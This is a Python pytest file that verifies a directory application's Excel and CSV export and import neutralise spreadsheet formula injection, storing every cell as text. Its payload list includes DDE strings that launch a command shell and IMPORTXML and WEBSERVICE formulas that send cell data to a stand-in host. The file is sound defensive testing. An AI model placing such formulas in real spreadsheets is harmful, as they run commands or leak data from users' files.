"""Formulas are written as text to every workbook, and survive a round trip (security.md 4.4)."""

import io
import re
import zipfile
from collections import Counter

import openpyxl
import pytest

from conftest import build_department, build_member
from directory.models import Member
from directory.tests.imports.test_pages import URL, applied, checked
from directory.tests.imports.workbooks import HEADINGS, person, saved

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example","y")',
    "=IMPORTXML(CONCAT(\"//x.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "+1+1",
    "+86 138 0013 8000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
]  # fmt: skip


def texts_of(content):
    """Return every cell's text. Fail if a cell is a formula, or anything else that a spreadsheet evaluates."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}, [cell.value for cell in cells]
    return [cell.value for cell in cells]


def texts(*rows):
    """Return a workbook whose cells are all text."""
    made = openpyxl.Workbook()
    for number, row in enumerate(rows, start=1):
        for column, text in enumerate(row, start=1):
            made.active.cell(number, column, text or None).data_type = "s"
    return saved(made)


def as_written(payload):
    """Normalize line ends, as XML does."""
    return payload.replace("\r", "\n")


def test_there_are_twenty_four_payloads():
    assert len(set(PAYLOADS)) == 24


def test_a_payload_is_a_text_in_the_export_and_in_the_template(client_of, alice, tenant):
    for number, payload in enumerate(PAYLOADS):
        member = build_member(tenant, "王芳", f"wangfang{number}", f"+86138001380{number:02}")
        Member.objects.filter(pk=member.pk).update(name=payload, position=payload)
        build_department(tenant.enterprise, payload, tenant.root)
    client = client_of(alice)
    exported = Counter(map(as_written, texts_of(client.post("/console/members/export/").content)))
    offered = set(map(as_written, texts_of(client.get(f"{URL}template/").content)))
    for payload, number in Counter(map(as_written, PAYLOADS)).items():
        assert exported[payload] == 2 * number
        assert payload in offered


def test_a_payload_is_a_text_among_the_failed_rows(client_of, alice, tenant):
    """Every cell of its row, a heading and the reason bear it."""
    client = client_of(alice)
    headings = [*HEADINGS, *(f"{payload}!" for payload in PAYLOADS)]
    rows = [
        [*person(n, name=payload, prefix=payload, departments=payload, position=payload), payload]
        for n, payload in enumerate(PAYLOADS)
    ]
    page = checked(client, tenant, texts(headings, *rows))
    shown = Counter(map(as_written, texts_of(client.get(f"{page}failed.xlsx").content)))
    for payload, number in Counter(map(as_written, PAYLOADS)).items():
        assert shown[payload] == 5 * number


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_payload_that_is_uploaded_stays_a_text(client_of, alice, tenant, kind):
    client = client_of(alice)
    rows = [HEAD, *(["王芳", f"w{n}", f"139000000{n:02}", payload] for n, payload in enumerate(PAYLOADS))]
    if kind == "csv":
        lines = ['"' + '","'.join(cell.replace('"', '""') for cell in cells) + '"' for cells in rows]
        page = checked(client, tenant, "\r\n".join(lines).encode(), "a.csv")
    else:
        page = checked(client, tenant, texts(*rows))
    applied(client, page)
    positions = dict(Member.objects.values_list("account", "position"))
    assert positions
    for n, payload in enumerate(PAYLOADS):
        assert positions.get(f"w{n}") in {None, tidy(payload), tidy(payload.removeprefix("'"))}


HEAD = ["姓名", "邮箱前缀", "手机号", "职务"]


def tidy(payload):
    return payload.replace("\u00a0", " ").strip()
